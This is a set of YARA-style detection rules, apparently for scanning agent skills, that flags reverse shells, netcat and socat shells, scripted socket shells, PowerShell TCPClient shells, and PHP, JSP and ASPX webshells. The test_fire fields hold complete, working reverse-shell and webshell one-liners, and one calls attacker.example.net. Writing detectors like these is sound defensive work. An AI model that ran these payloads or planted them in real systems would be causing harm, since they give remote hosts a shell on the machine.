// Reverse shells, bind shells and webshells, in any file including binaries and assets that the
// YAML signatures do not read as text.

rule reverse_shell_dev_tcp {
  meta:
    category = "command_injection"
    severity = "CRITICAL"
    title = "Reverse shell over /dev/tcp"
    description = "A shell's input and output are redirected to a bash /dev/tcp or /dev/udp socket, which hands an interactive shell on this machine to a remote host."
    remediation = "Remove the connection. No skill needs to give a remote host a shell."
    test_fire = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
    test_fire_2 = "0<&196;exec 196<>/dev/tcp/attacker.example.net/443; sh <&196 >&196 2>&196"
    test_quiet = "echo hello > /dev/null"
    test_quiet_2 = "Bash has pseudo-devices such as /dev/tcp."
  strings:
    $dev = /\/dev\/(tcp|udp)\/[A-Za-z0-9.\-_]{1,253}\/[0-9]{1,5}/
  condition:
    $dev
}

rule reverse_shell_netcat_family {
  meta:
    category = "command_injection"
    severity = "CRITICAL"
    title = "Shell bound to netcat, socat or telnet"
    description = "netcat, ncat, socat or telnet attaches a shell to a network connection, so the remote end gets a shell. The usual forms are an -e or -c option naming a shell, a named pipe looped through nc, and a socat EXEC address."
    remediation = "Remove the command."
    test_fire = "nc -e /bin/sh 203.0.113.5 4444"
    test_fire_2 = "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"
    test_fire_3 = "socat TCP:10.0.0.1:4444 EXEC:/bin/bash,pty,stderr,setsid"
    test_quiet = "nc -zv localhost 8080"
    test_quiet_2 = "socat TCP-LISTEN:8080,fork TCP:localhost:80"
  strings:
    $nc_exec = /\b(nc|ncat|netcat)(\.exe)?\s[^\n|;]{0,80}-([lnvpk]{0,4}e|c)\s*["']?(\/[a-z\/]{0,20})?((ba|z|da|k)?sh|cmd(\.exe)?|powershell(\.exe)?)\b/ nocase
    $fifo = /\bmkfifo\b[^\n]{0,160}\b(nc|ncat|netcat|telnet|openssl\s+s_client)\b/
    $pipe = /\b(ba|z|da)?sh\s+-i\b[^\n]{0,40}\|\s*(nc|ncat|netcat|telnet|openssl)\b/
    $socat = /\bsocat\b[^\n]{0,150}\b(exec|system):[^\n]{0,40}\b((ba|z|da)?sh|cmd|powershell)\b/ nocase
  condition:
    any of them
}

rule reverse_shell_script_socket {
  meta:
    category = "command_injection"
    severity = "CRITICAL"
    title = "Reverse shell in a script language"
    description = "A Python, Perl, PHP, Ruby, Node.js or Go script connects a socket and wires it to a shell. It duplicates file descriptors onto the socket, spawns a pty after connect, or runs a shell whose streams follow the connection."
    remediation = "Remove the socket-to-shell wiring."
    test_fire = "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);pty.spawn(\"/bin/sh\")"
    test_fire_2 = "$sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");"
    test_fire_3 = "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};"
    test_fire_4 = "c=TCPSocket.new(\"10.0.0.1\",4444);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end"
    test_quiet = "sock = socket.socket()\nsock.connect((\"localhost\", 8080))\nsock.sendall(b\"ping\")"
    test_quiet_2 = "os.dup2(log_fd, 2)"
  strings:
    $py_dup2 = /\bos\.dup2\s*\(\s*[A-Za-z_][\w.]{0,40}\.fileno\(\)\s*,\s*[012]\s*\)/
    $py_pty = /\.connect\s*\([^\n]{0,200}\n?[^\n]{0,400}pty\.spawn\s*\(\s*["'](\/bin\/)?(ba|z)?sh/
    $perl = /\bsocket\s*\(\s*\w+\s*,\s*PF_INET\b[\s\S]{0,300}\bexec\s*\(?\s*["']\/bin\/(ba)?sh/
    $php = /\bfsockopen\s*\([\s\S]{0,300}(\b(exec|shell_exec|system|passthru|proc_open|popen)\s*\(|\/bin\/(ba)?sh|cmd\.exe)/ nocase
    $ruby = /\bTCPSocket\.(new|open)\s*\([\s\S]{0,300}(\bexec\b|\bspawn\b|IO\.popen|\/bin\/(ba)?sh)/
    $node = /(new\s+net\.Socket\s*\(|\bnet\.(connect|createConnection)\s*\()[\s\S]{0,500}\b(spawn|exec)\s*\(\s*["'`](\/bin\/)?((ba|z)?sh|cmd\.exe)/
    $go = /\bnet\.Dial\s*\(\s*"tcp"[\s\S]{0,300}exec\.Command\s*\(\s*"(\/bin\/)?(ba|z)?sh"/
  condition:
    any of them
}

rule reverse_shell_powershell_tcpclient {
  meta:
    category = "command_injection"
    severity = "CRITICAL"
    title = "PowerShell reverse shell"
    description = "PowerShell opens a System.Net.Sockets.TCPClient, reads commands from its stream and runs them with Invoke-Expression, the standard PowerShell reverse shell."
    remediation = "Remove the script."
    test_fire = "$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',443);$stream = $client.GetStream();while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String )}"
    test_quiet = "$client = New-Object System.Net.WebClient; $client.DownloadFile($url, 'report.pdf')"
  strings:
    $tcp = "Net.Sockets.TCPClient" nocase
    $stream = "GetStream()" nocase
    $iex = /\b(iex|Invoke-Expression)\b/ nocase
  condition:
    $tcp and $stream and $iex
}

rule webshell_php_request_exec {
  meta:
    category = "malware"
    severity = "CRITICAL"
    title = "PHP webshell"
    description = "PHP passes a request parameter ($_GET, $_POST, $_REQUEST, $_COOKIE), possibly through base64_decode or gzinflate, to eval, assert, system or another execution function. Anyone who can reach the page runs code on the server."
    remediation = "Remove the file."
    test_fire = "<?php system($_GET['cmd']); ?>"
    test_fire_2 = "<?php @eval(base64_decode($_POST['z0'])); ?>"
    test_fire_3 = "<?php eval(gzinflate(base64_decode('7X1rcxu5sej3/IoxK4lFhaRIS7bl'))); ?>"
    test_quiet = "<?php echo htmlspecialchars($_GET['name']); ?>"
  strings:
    $request_exec = /\b(eval|assert|system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|create_function)\s*\(\s*(@?\s*(base64_decode|gzinflate|gzuncompress|str_rot13|stripslashes|urldecode|hex2bin)\s*\(\s*)*\$_(GET|POST|REQUEST|COOKIE|SERVER|FILES)\b/ nocase
    $backtick = /`\s*\$_(GET|POST|REQUEST|COOKIE)\[/
    $packed_eval = /\beval\s*\(\s*(gzinflate|gzuncompress|gzdecode|str_rot13|base64_decode)\s*\(\s*(gzinflate|gzuncompress|base64_decode|str_rot13)\s*\(/ nocase
  condition:
    any of them
}

rule webshell_jsp_aspx_exec {
  meta:
    category = "malware"
    severity = "CRITICAL"
    title = "JSP or ASP.NET webshell"
    description = "A JSP page runs Runtime.exec on a request parameter, or an ASP.NET page starts cmd.exe or PowerShell with a value taken from the request. Anyone who can reach the page runs commands on the server."
    remediation = "Remove the file."
    test_fire = "<% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"
    test_fire_2 = "<%@ Page Language=\"C#\" %><% var psi = new ProcessStartInfo(\"cmd.exe\", \"/c \" + Request[\"c\"]); Process.Start(psi); %>"
    test_quiet = "<% String name = request.getParameter(\"name\"); out.println(name); %>"
  strings:
    $jsp = /Runtime\.getRuntime\(\)\.exec\s*\(\s*request\.getParameter\s*\(/
    $asp_start = /Process(StartInfo)?\b[\s\S]{0,200}\bRequest(\.Form|\.QueryString|\.Params)?\s*\[/ nocase
    $asp_shell = /(cmd\.exe|powershell\.exe)/ nocase
    $asp_tag = "<%" ascii
  condition:
    $jsp or ($asp_tag and $asp_start and $asp_shell)
}
